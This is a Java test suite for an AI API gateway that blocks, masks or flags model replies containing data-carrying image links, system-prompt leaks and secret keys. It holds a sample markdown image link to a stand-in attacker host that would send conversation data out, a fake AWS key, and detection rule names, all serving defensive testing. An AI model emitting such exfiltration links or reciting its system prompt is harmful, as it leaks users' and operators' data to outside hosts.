package dev.tollgate.http;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tollgate.GatewayFixture;
import dev.tollgate.GatewayFixture.Answer;
import dev.tollgate.GatewayFixture.Call;
import dev.tollgate.Numbered;
import dev.tollgate.audit.AuditRecord.Ended;
import dev.tollgate.exchange.Verdict;
import dev.tollgate.http.EchoScripts.Where;
import dev.tollgate.wire.ReplyContent;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Links that carry data, stretches of the system prompt and what else is found in replies: ended, masked or marked, and on the record. */
class ReplyLeakTest {
    private static final String LINK = "https://evil-host.test/p.png?d=what+you+told+me";
    private static final String SECRET = "AKIA" + "Q3ZT7PLW2VKD5YHN";
    private static final String PROMPT = "You are Harbour the assistant of a small shipping company and you never tell"
            + " anybody which tariffs the company pays to its partners in the north";

    private GatewayFixture fixture;

    private void start(String replies) throws Exception {
        fixture = new GatewayFixture(
                GatewayFixture.providers() + "scan: {replies: {" + replies + "}}\ndetect: {mode: \"off\"}\n");
    }

    @AfterEach
    void stop() throws Exception {
        fixture.assertNothingLeft();
        fixture.close();
    }

    private Answer say(Call call, Where where, String said, boolean streams) throws Exception {
        fixture.provider.on("say", turn -> {
            if (streams) {
                turn.streamHead();
                for (String event : EchoScripts.stream(call, where, said, new Random(5))) {
                    turn.chunk(event);
                }
                turn.send("0\r\n\r\n");
            } else {
                turn.json(200, EchoScripts.document(call, where, said));
            }
        });
        return streams
                ? fixture.post(call.streamingPath(), body(call, true), "x-script", "say")
                : fixture.post(call.path, body(call, false), "x-script", "say");
    }

    private static String body(Call call, boolean streams) {
        String body = streams ? call.streaming("hello") : call.body("hello");
        String system = switch (call) {
            case OPENAI_CHAT -> "\"messages\":[{\"role\":\"system\",\"content\":\"" + PROMPT + "\"},";
            case OPENAI_RESPONSES -> "\"instructions\":\"" + PROMPT + "\",\"input\":";
            case ANTHROPIC -> "\"system\":\"" + PROMPT + "\",\"messages\":[";
            case GEMINI -> "\"systemInstruction\":{\"parts\":[{\"text\":\"" + PROMPT + "\"}]},\"contents\":[";
        };
        return switch (call) {
            case OPENAI_CHAT, ANTHROPIC -> body.replace("\"messages\":[", system);
            case OPENAI_RESPONSES -> body.replace("\"input\":", system);
            case GEMINI -> body.replace("\"contents\":[", system);
        };
    }

    private static String text(Answer answer) {
        return ReplyContent.of(answer.bytes()).orElseThrow().text();
    }

    private Ended ended(Answer answer) throws Exception {
        return fixture.ended(answer.header("x-tollgate-exchange-id"));
    }

    private Verdict verdict(Answer answer) throws Exception {
        return ended(answer).verdicts().getLast();
    }

    @ParameterizedTest
    @EnumSource(Call.class)
    void link_thatCarriesData_endsTheReply(Call call) throws Exception {
        start("links: block");
        for (Where where : Where.values()) {
            for (boolean streams : new boolean[] {true, false}) {
                Answer answer = say(call, where, "Here: ![chart](" + LINK + ") done", streams);

                assertThat(answer.body()).doesNotContain("evil-host").contains("a link that carries data away");
                assertThat(ended(answer).result()).isEqualTo("blocked");
                assertThat(ended(answer).code()).isEqualTo("exfiltration_found");
                assertThat(verdict(answer).stage()).isEqualTo("reply");
                assertThat(verdict(answer).result()).isEqualTo("deny");
                assertThat(verdict(answer).rules()).containsExactly("exfil_image");
            }
        }
    }

    @ParameterizedTest
    @EnumSource(Call.class)
    void link_thatCarriesData_isMasked(Call call) throws Exception {
        start("links: redact");
        for (boolean streams : new boolean[] {true, false}) {
            Answer answer = say(call, Where.REASONING, "Here: ![chart](" + LINK + ") done", streams);

            assertThat(answer.body()).doesNotContain("evil-host");
            assertThat(Numbered.in(answer.body())).contains("[LINK_1]");
            assertThat(ended(answer).result()).isEqualTo("completed");
            assertThat(verdict(answer).detail()).contains("replaced by placeholders");
        }
    }

    @Test
    void link_toAllowedHost_orThatTheRequestHeld_passes() throws Exception {
        start("links: block, link_hosts: [evil-host.test]");

        assertThat(say(Call.OPENAI_CHAT, Where.TEXT, "![c](" + LINK + ")", true).body())
                .contains("evil-host");

        stop();
        start("links: block");
        fixture.provider.on(
                "say", turn -> turn.json(200, EchoScripts.document(Call.OPENAI_CHAT, Where.TEXT, "it is " + LINK)));
        Answer answer =
                fixture.post(Call.OPENAI_CHAT.path, Call.OPENAI_CHAT.body("what is " + LINK), "x-script", "say");
        assertThat(answer.body()).contains(LINK);
    }

    @ParameterizedTest
    @EnumSource(Call.class)
    void systemPrompt_neverReachesTheClient(Call call) throws Exception {
        start("prompt: block");
        for (Where where : Where.values()) {
            for (boolean streams : new boolean[] {true, false}) {
                Answer answer = say(call, where, "My orders are: " + PROMPT + ". There you are.", streams);

                assertThat(answer.body())
                        .doesNotContain("Harbour")
                        .doesNotContain("tariffs")
                        .contains("a part of the system prompt");
                assertThat(ended(answer).code()).isEqualTo("prompt_leak_found");
            }
        }
    }

    @ParameterizedTest
    @EnumSource(Call.class)
    void systemPrompt_isMasked_andShortStretchesPass(Call call) throws Exception {
        start("prompt: redact");
        for (boolean streams : new boolean[] {true, false}) {
            Answer masked = say(call, Where.TEXT, "They say: " + PROMPT + ". Fine.", streams);
            Answer passed = say(call, Where.TEXT, "I am Harbour the assistant of a small shipping company.", streams);

            assertThat(Numbered.in(masked.body())).contains("[SYSTEM_PROMPT_1]").doesNotContain("tariffs");
            assertThat(text(passed)).isEqualTo("I am Harbour the assistant of a small shipping company.");
        }
    }

    @Test
    void marked_passesAsItCame_andIsOnTheRecord() throws Exception {
        start("secrets: mark, personal: mark, links: mark, prompt: mark");
        String said = "Key " + SECRET + ", ![c](" + LINK + "), " + PROMPT + ". Bye";

        for (boolean streams : new boolean[] {true, false}) {
            Answer answer = say(Call.ANTHROPIC, Where.TEXT, said, streams);

            assertThat(answer.body())
                    .isEqualTo(
                            streams
                                    ? String.join(
                                            "", EchoScripts.stream(Call.ANTHROPIC, Where.TEXT, said, new Random(5)))
                                    : EchoScripts.document(Call.ANTHROPIC, Where.TEXT, said));
            assertThat(ended(answer).result()).isEqualTo("completed");
            assertThat(verdict(answer).result()).isEqualTo("proceed");
            assertThat(verdict(answer).rules())
                    .containsExactlyInAnyOrder("aws_access_key_id", "exfil_image", "system_prompt_leak");
            assertThat(verdict(answer).searched().bytes()).isGreaterThan(said.length());
            assertThat(verdict(answer).searched().rules()).isNotEmpty();
        }
    }

    @Test
    void observed_passesAsItCame_andSaysWhatWouldHaveBeen() throws Exception {
        fixture = new GatewayFixture(GatewayFixture.providers() + "scan: {mode: observe, replies: {secrets: block}}\n");

        Answer answer = say(Call.OPENAI_CHAT, Where.TEXT, "Key " + SECRET + " there", true);

        assertThat(answer.body()).contains("there\"");
        assertThat(ended(answer).result()).isEqualTo("completed");
        assertThat(verdict(answer).result()).isEqualTo("would_deny");
    }

    @Test
    void blockedDocument_isRecordedWithTheStatusThatTheClientGot() throws Exception {
        start("secrets: block");

        Answer answer = say(Call.OPENAI_CHAT, Where.TEXT, "Key " + SECRET, false);

        assertThat(answer.status()).isEqualTo(400);
        assertThat(ended(answer).status()).isEqualTo(400);
        assertThat(ended(answer).result()).isEqualTo("blocked");
        assertThat(ended(answer).code()).isEqualTo("secret_found");
    }

    /** What is undecided of a text that falls silent waits, however much the others say. */
    @Test
    void secret_splitAroundALongSilence_neverReachesTheClient() throws Exception {
        start("secrets: block");
        fixture.provider.on("say", turn -> {
            turn.streamHead();
            turn.chunk(chat(0, "It is " + SECRET.substring(0, 19)));
            for (int i = 0; i < 200; i++) {
                turn.chunk(chat(1, "other words that take their time, and more of them. "));
            }
            turn.chunk(chat(0, SECRET.substring(19) + " there"));
            turn.chunk("data: [DONE]\n\n");
            turn.send("0\r\n\r\n");
        });

        Answer answer = fixture.post(Call.OPENAI_CHAT.path, Call.OPENAI_CHAT.streaming("hi"), "x-script", "say");

        assertThat(answer.body()).contains("other words").doesNotContain("AKIA").contains("a secret in the reply");
    }

    @Test
    void text_thatFallsSilent_comesWholeBeforeTheEnd() throws Exception {
        start("secrets: block");
        List<String> others = new java.util.ArrayList<>();
        for (int i = 0; i < 200; i++) {
            others.add(chat(1, "other words that take their time, and more of them. "));
        }
        fixture.provider.on("say", turn -> {
            turn.streamHead();
            turn.chunk(chat(0, "It is AKIA"));
            for (String other : others) {
                turn.chunk(other);
            }
            turn.chunk("data: [DONE]\n\n");
            turn.send("0\r\n\r\n");
        });

        Answer answer = fixture.post(Call.OPENAI_CHAT.path, Call.OPENAI_CHAT.streaming("hi"), "x-script", "say");

        StringBuilder first = new StringBuilder();
        for (String event : answer.body().split("\n\n", -1)) {
            if (event.startsWith("data: {\"choices\":[{\"index\":0")) {
                first.append(EchoScripts.read(event.substring(6))
                        .at("/choices/0/delta/content")
                        .asText());
            }
        }
        assertThat(first.toString()).isEqualTo("It is AKIA");
        assertThat(answer.body()).endsWith("data: [DONE]\n\n");
    }

    private static String chat(int choice, String text) {
        return "data: {\"choices\":[{\"index\":" + choice + ",\"delta\":{\"content\":\"" + text + "\"}}]}\n\n";
    }
}
